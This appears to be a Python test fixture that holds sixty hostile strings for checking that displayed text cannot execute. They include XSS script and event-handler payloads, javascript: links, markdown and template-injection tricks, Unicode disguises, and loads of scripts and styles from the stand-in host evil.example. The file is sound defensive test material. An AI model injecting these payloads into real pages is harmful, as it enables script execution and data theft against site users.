"""Sixty texts that would like to be more than text; wherever one is shown, nothing may run, load or be reordered.

``window.pwned`` is what each script would set and ``evil.example`` what each picture, link or style would load.
"""

from __future__ import annotations

MARK = "window.pwned"
HOST = "evil.example"

SCRIPTS = (
    "<script>window.pwned=1</script>",
    "<ScRiPt>window.pwned=1</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "</script><script>window.pwned=1</script>",
    "</template><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "<!--><script>window.pwned=1</script-->",
    "<svg><script>window.pwned=1</script></svg>",
    "<math><mtext><script>window.pwned=1</script></mtext></math>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=x onerror=&#119;indow.pwned=1>",
    '"><img src=x onerror=window.pwned=1>',
    "'><img src=x onerror=window.pwned=1>",
    '" autofocus onfocus="window.pwned=1',
    "' onmouseover='window.pwned=1",
    "<svg onload=window.pwned=1>",
    "<svg/onload=window.pwned=1//",
    "<body onload=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<input autofocus onfocus=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<audio src=x onerror=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data='javascript:window.pwned=1'></object>",
    "<embed src='javascript:window.pwned=1'>",
    "<a href='javascript:window.pwned=1' autofocus>x</a>",
    "<form action='javascript:window.pwned=1'><button>x</button></form>",
    "<math href='javascript:window.pwned=1'>x</math>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<div style='background:url(https://evil.example/x.png)'>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
)
MARKDOWN = (
    "![x](https://evil.example/x.png)",
    "![x][1]\n\n[1]: https://evil.example/x.png",
    "[x](javascript:window.pwned=1)",
    "[x](JaVaScRiPt:window.pwned=1)",
    "[x](data:text/html,<script>window.pwned=1</script>)",
    "[x](vbscript:window.pwned=1)",
    '[x](https://evil.example "onmouseover=window.pwned=1")',
    "<https://evil.example/?q=1>",
    "<javascript:window.pwned=1>",
    "`<img src=x onerror=window.pwned=1>`",
    "**<img src=x onerror=window.pwned=1>**",
    "| a | <img src=x onerror=window.pwned=1> |",
    "# <img src=x onerror=window.pwned=1>",
    "[![x](https://evil.example/x.png)](javascript:window.pwned=1)",
)
TEMPLATES = (
    "${window.pwned=1}",
    "`${window.pwned=1}`",
    "{{constructor.constructor('window.pwned=1')()}}",
    "{% raw %}{{ window.pwned }}{% endraw %}",
    "{value}",
    "$\\href{javascript:window.pwned=1}{x}$",
)
DISGUISES = (
    "\u202egnp.exe.ycilop\u202c",
    "\u2066\u202ereversed\u2069",
    "java\u0000script:window.pwned=1",
    "\u200b\u200c\u200d\ufeffhidden",
    "\u0336s\u0336t\u0336r\u0336u\u0336c\u0336k" + "\u0316" * 40,
)

HOSTILE = (*SCRIPTS, *MARKDOWN, *TEMPLATES, *DISGUISES)
